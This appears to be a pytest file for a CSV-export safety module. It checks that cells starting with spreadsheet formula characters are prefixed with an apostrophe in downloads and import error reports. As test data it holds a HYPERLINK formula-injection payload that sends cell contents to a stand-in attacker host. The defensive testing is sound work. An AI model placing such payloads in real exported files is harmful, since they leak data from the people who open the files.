"""Every downloaded CSV: no cell (header included) starts a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from core.csv_safety import SafeCsvWriter, SafeDictWriter, guard_cell, unguard_cell
from core.interchange.format import ALL_OR_NOTHING, ImportReport, RowError, errors_csv

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
DANGEROUS = [ATTACK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_cell_gets_an_apostrophe_and_comes_back_unchanged(value: str) -> None:
    assert guard_cell(value) == "'" + value
    assert unguard_cell(guard_cell(value)) == value


def test_plain_text_numbers_and_apostrophes_survive_the_round_trip() -> None:
    assert guard_cell("Acme") == "Acme" and guard_cell(-5) == -5 and guard_cell(None) is None
    assert unguard_cell(guard_cell("'=x")) == "'=x"  # an apostrophe of its own is kept


def test_the_writers_guard_every_cell_and_header() -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([[ATTACK, "ok"], ["x", "@SUM(A1)"]])
    writer = SafeDictWriter(buffer, fieldnames=[ATTACK])
    writer.writeheader()
    writer.writerow({ATTACK: "-1"})
    cells = _cells(buffer.getvalue())
    assert cells == ["'" + ATTACK, "ok", "x", "'@SUM(A1)", "'" + ATTACK, "'-1"]


def test_the_import_error_report_guards_a_hyperlink_header_cell() -> None:
    report = ImportReport(mode=ALL_OR_NOTHING)
    report.errors.append(RowError(1, ATTACK, "unknown column"))
    report.errors.append(RowError(2, "name", "=1+1"))
    cells = _cells(errors_csv(report).decode("utf-8"))
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + ATTACK in cells
